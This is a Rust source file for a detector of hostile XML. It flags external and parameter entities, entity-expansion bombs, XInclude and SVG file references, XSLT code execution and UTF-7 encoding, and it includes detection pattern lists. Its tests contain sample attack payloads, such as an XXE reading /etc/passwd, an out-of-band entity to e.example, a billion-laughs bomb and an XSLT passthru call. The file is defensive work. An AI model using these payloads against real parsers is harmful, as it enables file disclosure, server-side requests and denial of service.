//! XML that makes its reader fetch, include, run or swell.
//!
//! Harmless documents name a public type (`<!DOCTYPE plist PUBLIC ..>`) and a few entities that stand
//! for letters. An attack declares an entity that is a file or address, one that declares another,
//! or one that is made of many others.
//!
//! Reads    `XML_BYTES_MAX` bytes from the first declaration or inclusion.
//! Memory   none.
//! Misses   external subsets that are named as public types; UTF-16 and other encodings that the
//!          reader of the body left as they were; schemas that are fetched from a stranger's host.
//! Source   CWE-611, CWE-776, CWE-91; XML 1.0 sections 2.8 and 4.2; XInclude 1.1.

use super::caseless::{contains, contains_bytes, find, starts};
use super::marks::Marks;
use super::part::{from, head};
use super::sign::{Input, Signs, signs};

signs! {
    EXTERNAL = 0, "external", Certain;
    PARAMETER = 1, "parameter", Certain;
    NESTED = 2, "nested", Certain;
    BOMB = 3, "bomb", Certain;
    FOREIGN_TYPE = 4, "foreign-type", Certain;
    INCLUDES_FILE = 5, "includes-file", Certain;
    TRANSFORMS = 6, "transforms", Certain;
    SPLIT = 7, "split", Certain;
    ENCODING = 8, "encoding", Certain;
    EXTERNAL_NAME = 9, "external-name", Likely;
    INTERNAL = 10, "internal", Likely;
    INCLUDES = 11, "includes", Likely;
    REPEATS = 12, "repeats", Likely;
    STYLESHEET = 13, "stylesheet", Hint;
    TYPE = 14, "type", Hint;
    LETTER = 15, "letter", Hint;
    SCHEMA = 16, "schema", Hint;
    BARE = 17, "bare", Likely;
    USED = 18, "used", Likely;
}

/// Bytes that are read.
const XML_BYTES_MAX: usize = 4 * 1024;

/// Longest value that is one declaration.
const SHORT_BYTES_MAX: usize = 256;

/// Declarations that are looked at.
const DECLARATIONS_MAX: usize = 64;

/// Entities made of others, from which on they are a bomb.
const BOMB_LAYERS: usize = 2;

pub(super) fn look(input: &Input<'_>) -> Signs {
    let mut signs = Signs::default();
    let may = Marks::LESS.and(Marks::LETTER);
    if !input.marks.has(may)
        || !input.marks.has_any(Marks::QUOTE.and(Marks::DOUBLE_QUOTE).and(Marks::BRACKET))
    {
        return signs;
    }
    let first = memchr::memchr(b'<', input.text).unwrap_or(0);
    let text = head(from(input.text, first), XML_BYTES_MAX);
    if input.marks.has(Marks::BANG) {
        look_at_type(text, &mut signs);
        look_at_entities(text, &mut signs);
        signs.note(SPLIT, contains_bytes(text, &[b"<![cdata[<]]>", b"<![cdata[>]]>"]));
    }
    if input.marks.has_any(Marks::COLON.and(Marks::DASH)) {
        look_at_inclusions(text, &mut signs);
    }
    let declared = head(text, 128);
    signs.note(
        ENCODING,
        starts(text, b"<?xml") && contains_bytes(declared, &[b"\"utf-7\"", b"'utf-7'"]),
    );
    signs
}

fn look_at_type(text: &[u8], signs: &mut Signs) {
    let Some(at) = find(text, b"<!doctype") else { return };
    let declared = from(text, at + 9);
    let end = declared.iter().take(512).position(|it| matches!(it, b'[' | b'>')).unwrap_or(0);
    let before = head(declared, end);
    if let Some(system) = find(before, b"system") {
        signs.note(FOREIGN_TYPE, target(from(before, system + 6)) == Target::Inside);
        signs.note(TYPE, true);
    }
    signs.note(TYPE, declared.get(end) == Some(&b'['));
}

/// What a system identifier names.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Target {
    /// A file, a wrapper, a name above the document's own.
    Inside,
    /// An address of another host.
    Host,
    /// A name beside the document.
    Name,
    /// It is no literal.
    None,
}

fn target(text: &[u8]) -> Target {
    const INSIDE: &[&[u8]] = &[
        b"file:",
        b"php:",
        b"expect:",
        b"jar:",
        b"netdoc:",
        b"gopher:",
        b"dict:",
        b"ldap:",
        b"phar:",
        b"data:",
        b"zip:",
        b"compress",
        b"../",
        b"..\\",
        b"/etc/",
        b"/proc/",
        b"c:",
        b"\\\\",
        b"/dev/",
    ];
    const HOST: &[&[u8]] = &[b"http:", b"https:", b"ftp:", b"//"];
    let text = text.trim_ascii_start();
    let text = match text {
        [b'"' | b'\'', inside @ ..] => inside.trim_ascii_start(),
        [b'\\', b'"' | b'\'', inside @ ..] => inside,
        _ => return Target::None,
    };
    if INSIDE.iter().any(|it| starts(text, it)) {
        Target::Inside
    } else if HOST.iter().any(|it| starts(text, it)) {
        Target::Host
    } else {
        Target::Name
    }
}

fn look_at_entities(text: &[u8], signs: &mut Signs) {
    let mut rest = text;
    let mut layers = 0;
    for _ in 0..DECLARATIONS_MAX {
        let Some(at) = find(rest, b"<!entity") else { break };
        rest = from(rest, at + 8);
        let declared = rest.trim_ascii_start();
        let (is_parameter, declared) = match declared {
            [b'%', after @ ..] => (true, after.trim_ascii_start()),
            [b'&', b'#', after @ ..] => {
                signs.note(NESTED, true);
                (
                    true,
                    from(
                        after,
                        after.iter().take(8).position(|it| *it == b';').map_or(0, |it| it + 1),
                    )
                    .trim_ascii_start(),
                )
            }
            _ => (false, declared),
        };
        let name_bytes =
            declared.iter().take(64).take_while(|it| !it.is_ascii_whitespace()).count();
        let value = from(declared, name_bytes).trim_ascii_start();
        let is_public = starts(value, b"public");
        if is_public || starts(value, b"system") {
            let target = target(from(value, 6));
            signs.note(EXTERNAL, target == Target::Inside || target == Target::Host && !is_public);
            signs.note(PARAMETER, is_parameter && target != Target::None && !is_public);
            signs.note(EXTERNAL_NAME, target != Target::None);
            // A declaration outside any document, and one whose entity the document asks for.
            let is_short = text.len() <= SHORT_BYTES_MAX;
            signs.note(BARE, target != Target::None && is_short && starts(text, b"<!entity"));
            let name = head(declared, name_bytes);
            let is_used = memchr::memchr2_iter(b'&', b'%', text).take(DECLARATIONS_MAX).any(|at| {
                let after = from(text, at + 1);
                after.starts_with(name) && from(after, name.len()).starts_with(b";")
            });
            signs.note(USED, target != Target::None && !name.is_empty() && is_used);
            continue;
        }
        let Some((&quote, inside)) = value.split_first() else { continue };
        if !matches!(quote, b'"' | b'\'') {
            continue;
        }
        let end = memchr::memchr(quote, inside).unwrap_or(inside.len());
        let inside = head(inside, end);
        signs.note(
            NESTED,
            contains_bytes(inside, &[b"<!entity", b"&#x25;", b"&#37;"])
                && (is_parameter || contains(inside, b"entity")),
        );
        let references = memchr::memchr_iter(b'&', inside)
            .filter(|at| from(inside, at + 1).first() != Some(&b'#'))
            .count();
        layers += usize::from(references >= 2);
        signs.note(REPEATS, references >= 2);
        let is_letter = inside.starts_with(b"&#") || inside.len() <= 1;
        signs.note(INTERNAL, !is_letter);
        signs.note(LETTER, is_letter);
    }
    signs.note(BOMB, layers >= BOMB_LAYERS);
}

fn look_at_inclusions(text: &[u8], signs: &mut Signs) {
    if let Some(at) = find(text, b":include") {
        let attributes = head(from(text, at), 256);
        let is_attribute = find(attributes, b"href")
            .is_some_and(|it| contains(head(from(attributes, it + 4), 4), b"="));
        let named = find(attributes, b"href").map(|it| from(attributes, it + 4).trim_ascii_start());
        let target = named.and_then(|it| it.strip_prefix(b"=")).map_or(Target::None, target);
        signs.note(
            INCLUDES_FILE,
            target == Target::Inside || target == Target::Host && contains(attributes, b"parse"),
        );
        signs.note(INCLUDES, is_attribute && contains(text, b"xinclude"));
    }
    if contains(text, b"<xsl:") || contains(text, b"xsl/transform") {
        const RUNS: &[&[u8]] = &[
            b"php:function",
            b"document('/",
            b"document(\"/",
            b"document('file:",
            b"document('http",
            b"unparsed-text(",
            b"msxsl:script",
            b"runtime:exec",
            b"java.lang.runtime",
            b"saxon:evaluate",
            b"rt:exec",
            b"ptr:",
        ];
        signs.note(TRANSFORMS, contains_bytes(text, RUNS));
        signs.note(STYLESHEET, true);
    }
    if contains(text, b"<svg") {
        const OPENS: &[&[u8]] = &[
            b"href=\"file:",
            b"href='file:",
            b"href=\"expect:",
            b"href=\"text:",
            b"href=\"msl:",
            b"href=\"ephemeral:",
        ];
        signs.note(INCLUDES_FILE, contains_bytes(text, OPENS));
    }
    signs.note(STYLESHEET, contains(text, b"<?xml-stylesheet"));
    signs.note(SCHEMA, contains(text, b"schemalocation="));
}

#[cfg(test)]
mod tests {
    use super::super::sign::{self, Strength};
    use super::*;

    #[track_caller]
    fn check(strength: Option<Strength>, values: &[&str]) {
        sign::check(SIGNS, look, false, strength, values);
    }

    #[test]
    fn entities_that_fetch_or_swell_are_certain() {
        check(
            Some(Strength::Certain),
            &[
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                "<!DocType a [<!EnTiTy x SyStEm 'http://e.example/'>]>",
                "<!DOCTYPE a [ <!ENTITY % d SYSTEM \"x.dtd\"> %d; ]>",
                "<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://e.example/%f;'>\">",
                "<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]>",
                "<!DOCTYPE a SYSTEM \"file:///dev/random\">",
                "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>",
                "<xsl:value-of select=\"php:function('passthru','id')\"/>",
                "<svg><image xlink:href=\"file:///etc/hosts\"/></svg>",
                "<![CDATA[<]]>script<![CDATA[>]]>",
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>",
                "x'||(select xmltype('<!DOCTYPE r [ <!ENTITY % a SYSTEM \"http://e.example/\">%a;]>'))",
            ],
        );
    }

    #[test]
    fn declarations_alone_and_entities_in_use_are_seen() {
        let has = |text: &str, n| look(&Input::of(text.as_bytes(), false)).has(n);
        assert!(has("<!ENTITY x SYSTEM \"robots.txt\">", BARE));
        assert!(has("<!DOCTYPE a [<!ENTITY x SYSTEM \"a.txt\">]><a>&x;</a>", USED));
        assert!(!has("<!DOCTYPE a [<!ENTITY x SYSTEM \"a.xml\">]><a>&y;</a>", USED));
        assert!(!has("<!ENTITY is how XML declares an entity", BARE));
    }

    #[test]
    fn documents_of_people_are_no_more_than_hints() {
        check(
            Some(Strength::Hint),
            &[
                "<!DOCTYPE xsl:stylesheet [<!ENTITY nbsp \"&#160;\">]>",
                "<!DOCTYPE hibernate-mapping SYSTEM \"http://www.hibernate.org/dtd/hibernate.dtd\">",
                "<project xmlns=\"http://maven\" xsi:schemaLocation=\"http://maven http://maven/maven.xsd\"/>",
                "<?xml-stylesheet href=\"feed.xsl\"?><rss/>",
            ],
        );
        check(
            None,
            &[
                "<!DOCTYPE html>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
                "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
                "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"/>",
                "<![CDATA[a < b]]>",
                "vector<int> a; std::system(\"x\");",
            ],
        );
    }

    #[test]
    fn hostile_values_take_bounded_time() {
        for unit in ["<!ENTITY ", "<", "<!ENTITY a \"&b;&b;\">", ":include ", "<xsl:", "<!"] {
            let text: Vec<u8> = unit.bytes().cycle().take(64 * 1024).collect();
            let input = Input::of(&text, false);
            let start = std::time::Instant::now();
            look(&input);
            assert!(start.elapsed().as_millis() < 50, "{unit}");
        }
    }
}
